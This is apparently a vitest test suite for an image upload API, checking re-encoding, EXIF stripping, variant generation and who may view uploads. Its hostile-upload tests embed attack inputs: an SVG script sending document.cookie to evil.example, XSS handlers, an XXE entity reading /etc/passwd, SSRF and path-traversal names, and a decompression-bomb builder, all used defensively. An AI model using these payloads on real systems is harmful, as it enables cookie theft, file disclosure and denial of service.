import zlib from 'node:zlib';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { uploads } from '../../db/schema/index.ts';
import { client, member, multipartFile, sampleImage, type Member } from '../../test/builders.ts';
import { useTestApp } from '../../test/test-app.ts';

const t = useTestApp();

const upload = (who: Member, file: Buffer, options: Parameters<typeof multipartFile>[1] = {}) => {
  const { payload, headers } = multipartFile(file, options);
  return who.browser.post('/v1/images/upload', payload, headers);
};

/** A PNG whose header claims `size` x `size` pixels: tiny on disk, huge decoded. */
function decompressionBomb(size = 30_000) {
  const crc32 = (buf: Buffer) => {
    let crc = 0xffffffff;
    for (const byte of buf) {
      crc ^= byte;
      for (let k = 0; k < 8; k++) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1;
    }
    return (crc ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const out = Buffer.alloc(8 + data.length + 4);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(crc32(body), 8 + data.length);
    return out;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header[8] = 8;
  header[9] = 2;
  return Buffer.concat([
    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
    chunk('IHDR', header),
    chunk('IDAT', zlib.deflateSync(Buffer.alloc(64))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('uploading an image', () => {
  it('re-encodes it as a JPEG under a server-made name', async () => {
    const user = await member(t);
    const response = await upload(user, await sampleImage('png', { width: 2400, height: 1200 }), {
      filename: '../../etc/evil name.png',
    });
    expect(response.statusCode).toBe(200);
    const { filename, absolute_url } = response.json().data;
    expect(filename).toMatch(/^uploads\/[0-9a-f-]{36}\.jpg$/);
    expect(absolute_url).toBe(`http://localhost:3000/media/${filename}`);
    const served = await user.browser.get(`/media/${filename}`);
    expect(served.statusCode).toBe(200);
    const stored = await sharp(served.rawPayload).metadata();
    expect(stored).toMatchObject({ format: 'jpeg', width: 2000, height: 1000 });
  });

  it.each(['jpeg', 'webp', 'gif'] as const)('accepts a %s', async (format) => {
    const user = await member(t);
    expect((await upload(user, await sampleImage(format))).statusCode).toBe(200);
  });

  it('accepts an SVG and keeps nothing of it but pixels', async () => {
    const user = await member(t);
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40"><script>alert(1)</script><rect width="60" height="40" fill="#0a0"/></svg>',
    );
    const response = await upload(user, svg, { filename: 'a.svg', contentType: 'image/svg+xml' });
    expect(response.statusCode).toBe(200);
    const served = await user.browser.get(`/media/${response.json().data.filename}`);
    expect(served.rawPayload.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
    expect(served.rawPayload.includes(Buffer.from('script'))).toBe(false);
  });

  it('strips metadata such as EXIF and location', async () => {
    const user = await member(t);
    const withExif = await sharp(await sampleImage('jpeg'))
      .withExif({ IFD0: { Copyright: 'secret-camera-owner' }, IFD3: { GPSLatitudeRef: 'N' } })
      .jpeg()
      .toBuffer();
    expect((await sharp(withExif).metadata()).exif).toBeDefined();
    const response = await upload(user, withExif);
    const served = await user.browser.get(`/media/${response.json().data.filename}`);
    const stored = await sharp(served.rawPayload).metadata();
    expect(stored.exif).toBeUndefined();
    expect(served.rawPayload.includes(Buffer.from('secret-camera-owner'))).toBe(false);
  });

  it.each([
    ['a text file', Buffer.from('just some words, not a picture'), 'The file provided is not an image.1'],
    [
      'a truncated PNG',
      Buffer.from([137, 80, 78, 71, 13, 10, 26, 10, 0, 0]),
      'The file provided is not an image.1',
    ],
  ])('refuses %s', async (_case, file, message) => {
    const user = await member(t);
    const response = await upload(user, file);
    expect(response.statusCode).toBe(422);
    expect(response.json().errors.image).toEqual([message]);
  });

  it('refuses a type outside the list, whatever the file claims to be', async () => {
    const user = await member(t);
    const response = await upload(user, await sampleImage('tiff'), {
      filename: 'x.png',
      contentType: 'image/png',
    });
    expect(response.statusCode).toBe(422);
    expect(response.json().errors.image).toEqual([
      'The image must be a file of type: jpg, jpeg, png, svg, webp, gif',
    ]);
  });

  it('refuses a decompression bomb before decoding it', async () => {
    const user = await member(t);
    const response = await upload(user, decompressionBomb());
    expect(response.statusCode).toBe(422);
    expect(response.json().errors.image).toEqual(['The image dimensions are too large.']);
  });

  it('refuses a file over 10 MB', async () => {
    const user = await member(t);
    const response = await upload(user, Buffer.alloc(10 * 1024 * 1024 + 1, 1));
    expect(response.statusCode).toBe(422);
    expect(response.json().errors.image).toEqual(['The image must not be greater than 10240 kilobytes.']);
  });

  it('asks for the image when there is none, under another name, or no multipart at all', async () => {
    const user = await member(t);
    const other = await upload(user, await sampleImage(), { field: 'photo' });
    expect(other.json().errors.image).toEqual(['The image field is required.']);
    const json = await user.browser.post('/v1/images/upload', { image: 'x' });
    expect(json.statusCode).toBe(422);
    expect(json.json().errors.image).toEqual(['The image field is required.']);
    const empty = await user.browser.post('/v1/images/upload');
    expect(empty.json().errors.image).toEqual(['The image field is required.']);
  });

  it('needs a signed-in user', async () => {
    const { payload, headers } = multipartFile(await sampleImage());
    expect((await client(t).post('/v1/images/upload', payload, headers)).statusCode).toBe(401);
  });
});

/** What /media/ serves for a stored name to the person who uploaded it (no one else sees it yet). */
const served = async (filename: string, uploader: Member) => {
  const response = await uploader.browser.get(`/media/${filename}`);
  expect(response.statusCode).toBe(200);
  return response;
};

/** A photo-like JPEG (noise over a gradient, so it does not compress to nothing). */
async function photo(width: number, height: number) {
  const pixels = Buffer.alloc(width * height * 3);
  for (let i = 0; i < pixels.length; i++)
    pixels[i] = ((i % (width * 3)) * 7 + ((i * 2654435761) >>> 24)) & 255;
  return sharp(pixels, { raw: { width, height, channels: 3 } })
    .jpeg()
    .toBuffer();
}

/** A baseline JPEG whose frame header (SOF0) is rewritten to declare `width` x `height` pixels. */
async function jpegDeclaring(width: number, height: number) {
  const jpeg = Buffer.from(await sampleImage('jpeg'));
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  expect(sof).toBeGreaterThan(0);
  jpeg.writeUInt16BE(height, sof + 5);
  jpeg.writeUInt16BE(width, sof + 7);
  return jpeg;
}

/** An animated GIF of one frame per colour. */
async function animatedGif(colours: string[]) {
  const frames = await Promise.all(
    colours.map((background) =>
      sharp({ create: { width: 40, height: 30, channels: 3, background } })
        .png()
        .toBuffer(),
    ),
  );
  return sharp(frames, { join: { animated: true } })
    .gif({ delay: 100, loop: 0 })
    .toBuffer();
}

describe('hostile uploads', () => {
  const expectRefused = (response: Awaited<ReturnType<typeof upload>>, status: number, message: string) => {
    expect(response.statusCode).toBe(status);
    expect(response.json()).toMatchObject({ errors: { image: [message] } });
  };

  it('rasterises an SVG with a script: served as a JPEG under a .jpg name, no markup left', async () => {
    const user = await member(t);
    const svg = Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="80" height="60" onload="alert(2)">' +
        '<script type="text/javascript">fetch("https://evil.example/"+document.cookie)</script>' +
        '<foreignObject width="80" height="60"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(3)"/></foreignObject>' +
        '<rect width="80" height="60" fill="#0a0"/></svg>',
    );
    const response = await upload(user, svg, { filename: 'x.svg', contentType: 'image/svg+xml' });
    expect(response.statusCode).toBe(200);
    const { filename } = response.json().data;
    expect(filename).toMatch(/\.jpg$/);
    const file = await served(filename, user);
    expect(file.headers['content-type']).toBe('image/jpeg');
    for (const text of ['<svg', 'script', 'evil.example', 'onload', 'javascript']) {
      expect(file.rawPayload.includes(Buffer.from(text))).toBe(false);
    }
    expect(await sharp(file.rawPayload).metadata()).toMatchObject({ format: 'jpeg', width: 80, height: 60 });
  });

  it('re-encodes a JPEG with an HTML tail: nothing after the end of the image, no HTML', async () => {
    const user = await member(t);
    const html = Buffer.from('<html><body><script>alert(document.domain)</script></body></html>');
    const response = await upload(user, Buffer.concat([await photo(64, 48), html]), {
      filename: 'x.jpg',
      contentType: 'image/jpeg',
    });
    expect(response.statusCode).toBe(200);
    const file = (await served(response.json().data.filename, user)).rawPayload;
    expect(file.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
    expect(file.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
    expect(file.includes(Buffer.from('<html'))).toBe(false);
    expect(file.includes(Buffer.from('script'))).toBe(false);
  });

  it.each([
    ['a PNG', () => Promise.resolve(decompressionBomb(50_000))],
    ['a JPEG', () => jpegDeclaring(50_000, 50_000)],
    [
      'an SVG',
      () =>
        Promise.resolve(
          Buffer.from(
            '<svg xmlns="http://www.w3.org/2000/svg" width="50000" height="50000"><rect width="9" height="9"/></svg>',
          ),
        ),
    ],
  ])('refuses %s declaring 50,000 x 50,000 pixels before decoding it', async (_case, make) => {
    const user = await member(t);
    const file = await make();
    expect(file.length).toBeLessThan(4096);
    expectRefused(await upload(user, file), 422, 'The image dimensions are too large.');
  });

  it('refuses an animation whose frames together are over the pixel limit', async () => {
    const user = await member(t);
    // 4000 x 3000 per frame is allowed alone; five frames make 60 megapixels
    const frames = await Promise.all(
      [0, 1, 2, 3, 4].map((n) =>
        sharp({ create: { width: 4000, height: 3000, channels: 3, background: { r: n * 40, g: 0, b: 0 } } })
          .png()
          .toBuffer(),
      ),
    );
    const gif = await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer();
    expect(gif.length).toBeLessThan(10 * 1024 * 1024);
    expectRefused(await upload(user, gif), 422, 'The image dimensions are too large.');
  });

  it.each([
    [
      'a PDF named .jpg',
      Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
    ],
    ['an empty file', Buffer.alloc(0)],
    ['an HTML page named .jpg', Buffer.from('<!doctype html><html><script>alert(1)</script></html>')],
    ['random bytes', Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 2654435761) >>> 24))],
  ])('refuses %s as not an image', async (_case, file) => {
    const user = await member(t);
    expectRefused(
      await upload(user, file, { filename: 'photo.jpg', contentType: 'image/jpeg' }),
      422,
      'The file provided is not an image.1',
    );
  });

  it.each([
    ['a local file', '<image href="file:///etc/passwd" width="10" height="10"/>'],
    ['another site', '<image href="http://127.0.0.1:9/x.png" width="10" height="10"/>'],
    ['an external entity', '<text y="10">&xxe;</text>'],
  ])('renders an SVG pointing at %s without fetching it, never a 500', async (_case, element) => {
    const user = await member(t);
    const svg = Buffer.from(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
        `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">${element}</svg>`,
    );
    const response = await upload(user, svg, { filename: 'x.svg', contentType: 'image/svg+xml' });
    expect([200, 422]).toContain(response.statusCode);
    if (response.statusCode === 200) {
      const file = (await served(response.json().data.filename, user)).rawPayload;
      expect(file.includes(Buffer.from('root:'))).toBe(false);
    }
  });

  it('never answers a 500 for a JPEG cut short anywhere', async () => {
    const user = await member(t);
    const jpeg = await photo(64, 48);
    for (const length of [2, 20, 200, Math.floor(jpeg.length / 2), jpeg.length - 2]) {
      const response = await upload(user, jpeg.subarray(0, length));
      expect([200, 422]).toContain(response.statusCode);
    }
  });

  it('refuses a file over the byte limit with a message, even one that is a real image', async () => {
    const user = await member(t);
    const big = Buffer.concat([await sampleImage('png'), Buffer.alloc(10 * 1024 * 1024, 7)]);
    expectRefused(await upload(user, big), 422, 'The image must not be greater than 10240 kilobytes.');
  });

  it('strips GPS and other EXIF from the image and from every variant', async () => {
    const user = await member(t);
    const withGps = await sharp(await photo(640, 480))
      .withExif({
        IFD0: { Make: 'secret-camera-make', Copyright: 'secret-owner' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '14/1 35/1 4500/100',
          GPSLongitudeRef: 'E',
          GPSLongitude: '120/1 58/1 3000/100',
        },
      })
      .jpeg()
      .toBuffer();
    const before = await sharp(withGps).metadata();
    expect(before.exif?.includes(Buffer.from('secret-owner'))).toBe(true);
    const response = await upload(user, withGps, { filename: 'x.jpg', contentType: 'image/jpeg' });
    expect(response.statusCode).toBe(200);
    const rows = await t.db.select().from(uploads).where(eq(uploads.userId, user.user.id));
    expect(rows).toHaveLength(5);
    for (const row of rows) {
      const file = (await served(row.key, user)).rawPayload;
      const metadata = await sharp(file).metadata();
      expect(metadata.exif).toBeUndefined();
      expect(metadata.xmp).toBeUndefined();
      for (const text of ['Exif', 'secret-owner', 'secret-camera-make']) {
        expect(file.includes(Buffer.from(text))).toBe(false);
      }
    }
  });

  it('keeps the animation of a GIF, served as a GIF', async () => {
    const user = await member(t);
    const response = await upload(user, await animatedGif(['#f00', '#0f0', '#00f']), {
      filename: 'a.gif',
      contentType: 'image/gif',
    });
    expect(response.statusCode).toBe(200);
    const { filename, absolute_url } = response.json().data;
    expect(filename).toMatch(/^uploads\/[0-9a-f-]{36}\.gif$/);
    expect(absolute_url).toBe(`http://localhost:3000/media/${filename}`);
    const file = await served(filename, user);
    expect(file.headers['content-type']).toBe('image/gif');
    expect(await sharp(file.rawPayload).metadata()).toMatchObject({ format: 'gif', pages: 3, width: 40 });
    // the 500 px version a post shows moves too; the thumbnail and the blurred preview stay still
    const variants = await t.db.select().from(uploads).where(eq(uploads.parentKey, filename));
    const formats = Object.fromEntries(
      await Promise.all(
        variants.map(async (row) => {
          const metadata = await sharp((await served(row.key, user)).rawPayload).metadata();
          return [row.variant, { format: metadata.format, pages: metadata.pages ?? 1 }];
        }),
      ),
    );
    expect(formats).toEqual({
      WH500: { format: 'gif', pages: 3 },
      WH100: { format: 'jpeg', pages: 1 },
      PREVIEW: { format: 'jpeg', pages: 1 },
    });
    expect(variants.find((row) => row.variant === 'WH500')?.key).toMatch(/\.gif$/);
  });

  it.each([
    ['a TIFF', () => sampleImage('tiff')],
    [
      'an AVIF',
      () =>
        sharp({ create: { width: 40, height: 30, channels: 3, background: '#333' } })
          .avif()
          .toBuffer(),
    ],
  ])('refuses %s named .png: an image, but not an allowed type', async (_case, make) => {
    const user = await member(t);
    expectRefused(
      await upload(user, await make(), { filename: 'x.png', contentType: 'image/png' }),
      422,
      'The image must be a file of type: jpg, jpeg, png, svg, webp, gif',
    );
  });

  it('asks for the image when the form has only other fields, or the body is not multipart', async () => {
    const user = await member(t);
    const boundary = '----pixelform';
    const fieldsOnly = await user.browser.post(
      '/v1/images/upload',
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="caption"\r\n\r\nhi\r\n--${boundary}--\r\n`,
      ),
      { 'content-type': `multipart/form-data; boundary=${boundary}` },
    );
    expectRefused(fieldsOnly, 422, 'The image field is required.');
    const raw = await user.browser.post('/v1/images/upload', await sampleImage('jpeg'), {
      'content-type': 'image/jpeg',
    });
    // a body of a type no route reads is turned away before the route, in the usual error shape
    expect(raw.statusCode).toBe(415);
    expect(raw.json()).toMatchObject({
      exception: 'UnsupportedMediaTypeException',
      message: expect.any(String),
    });
  });
});

describe('the variants of an upload', () => {
  it('stores WH100, WH500, its WebP and a blurred preview under server-made names of their own', async () => {
    const user = await member(t);
    const response = await upload(user, await photo(2400, 1600), {
      filename: '../x.jpg',
      contentType: 'image/jpeg',
    });
    expect(response.statusCode).toBe(200);
    expect(Object.keys(response.json())).toEqual(['data']);
    expect(Object.keys(response.json().data).sort()).toEqual(['absolute_url', 'filename']);
    const { filename } = response.json().data;

    const rows = await t.db.select().from(uploads).where(eq(uploads.userId, user.user.id));
    const keys = rows.map((row) => row.key);
    expect(keys).toHaveLength(5);
    expect(keys).toContain(filename);
    for (const key of keys) expect(key).toMatch(/^uploads\/[0-9a-f-]{36}\.(jpg|webp)$/);
    // no variant's name is made from the original's, so a preview's address leads nowhere
    const ids = keys.map((key) => key.slice('uploads/'.length, key.lastIndexOf('.')));
    for (const id of ids) expect(ids.filter((other) => other.includes(id))).toHaveLength(1);

    const files = Object.fromEntries(
      await Promise.all(
        rows.map(async (row) => {
          const file = await served(row.key, user);
          const { format, width, height } = await sharp(file.rawPayload).metadata();
          return [row.variant ?? 'original', `${format} ${width}x${height} ${file.headers['content-type']}`];
        }),
      ),
    );
    expect(files).toEqual({
      original: 'jpeg 2000x1333 image/jpeg',
      WH100: 'jpeg 100x100 image/jpeg',
      WH500: 'jpeg 500x333 image/jpeg',
      WH500_WEBP: 'webp 500x333 image/webp',
      PREVIEW: 'jpeg 480x320 image/jpeg',
    });
    expect(rows.find((row) => row.variant === 'WH500_WEBP')?.key).toMatch(/\.webp$/);
  });

  it('makes the WebP of WH500 the size and colours of its JPEG', async () => {
    const user = await member(t);
    const response = await upload(user, await photo(900, 1200));
    expect(response.statusCode).toBe(200);
    const rows = await t.db
      .select()
      .from(uploads)
      .where(eq(uploads.parentKey, response.json().data.filename));
    const look = async (variant: string) => {
      const file = (await served(rows.find((row) => row.variant === variant)!.key, user)).rawPayload;
      const [{ format, width, height }, { channels }] = await Promise.all([
        sharp(file).metadata(),
        sharp(file).stats(),
      ]);
      return { format, width, height, colour: channels.map((channel) => Math.round(channel.mean / 8)) };
    };
    const [jpeg, webp] = await Promise.all([look('WH500'), look('WH500_WEBP')]);
    // fitted inside 500x500 like the JPEG, and the same colours but for what each encoder drops
    expect(jpeg).toMatchObject({ format: 'jpeg', width: 375, height: 500 });
    expect(webp).toEqual({ ...jpeg, format: 'webp' });
  });

  it('makes a preview that keeps no detail of the photo', async () => {
    const user = await member(t);
    // a checkerboard of 8-pixel squares: all detail, average grey
    const size = 800;
    const pixels = Buffer.alloc(size * size);
    for (let y = 0; y < size; y++) {
      for (let x = 0; x < size; x++) pixels[y * size + x] = ((x >> 3) + (y >> 3)) % 2 ? 255 : 0;
    }
    const board = await sharp(pixels, { raw: { width: size, height: size, channels: 1 } })
      .png()
      .toBuffer();
    const response = await upload(user, board);
    expect(response.statusCode).toBe(200);
    const rows = await t.db.select().from(uploads).where(eq(uploads.userId, user.user.id));
    const files = await Promise.all(rows.map(async (row) => (await served(row.key, user)).rawPayload));
    const previews = await Promise.all(
      files.map(async (file) => ({ file, metadata: await sharp(file).metadata() })),
    );
    const preview = previews.find(({ metadata }) => metadata.width === 480)!;
    const main = previews.find(({ metadata }) => metadata.width === size)!;
    const spread = async (file: Buffer) => (await sharp(file).stats()).channels[0]!.stdev;
    expect(await spread(main.file)).toBeGreaterThan(100);
    expect(await spread(preview.file)).toBeLessThan(10);
  });

  it('gives an avatar its WH100 as before', async () => {
    const user = await member(t);
    const { payload, headers } = multipartFile(await photo(900, 600));
    const response = await user.browser.post('/v1/user/profile/avatar', payload, headers);
    expect(response.statusCode).toBe(200);
    const rows = await t.db.select().from(uploads).where(eq(uploads.userId, user.user.id));
    expect(rows.map((row) => row.kind)).toEqual(['avatar', 'avatar']);
  });
});

describe('who sees an upload', () => {
  it('shows an upload nothing has taken only to its uploader, never cached', async () => {
    const user = await member(t);
    const other = await member(t);
    const response = await upload(user, await sampleImage());
    const { filename, absolute_url: url } = response.json().data;
    const own = await user.browser.get(`/media/${filename}`);
    expect(own.statusCode).toBe(200);
    expect(own.headers['cache-control']).toBe('private, no-store');
    expect((await other.browser.get(`/media/${filename}`)).statusCode).toBe(404);
    expect((await client(t).get(`/media/${filename}`)).statusCode).toBe(404);
    expect(new URL(url).pathname).toBe(`/media/${filename}`);
  });

  it('makes an upload public once a goal takes it as its cover', async () => {
    const user = await member(t);
    const { filename, absolute_url: url } = (await upload(user, await sampleImage())).json().data;
    const goal = await user.browser.post('/v1/user/goals', {
      title: 'New camera',
      target_amount: '30000',
      cover_image: url,
    });
    expect(goal.statusCode).toBe(201);
    const publicFile = await client(t).get(`/media/${filename}`);
    expect(publicFile.statusCode).toBe(200);
    expect(publicFile.headers['cache-control']).toBe('public, max-age=31536000, immutable');
  });

  it('answers a 404 for names the server never made', async () => {
    for (const name of [
      'uploads/..%2f..%2fx.jpg',
      'uploads/%2e%2e/x.jpg',
      'UPLOADS/X.JPG',
      'uploads/none.jpg',
    ]) {
      expect((await client(t).get(`/media/${name}`)).statusCode).toBe(404);
    }
  });
});
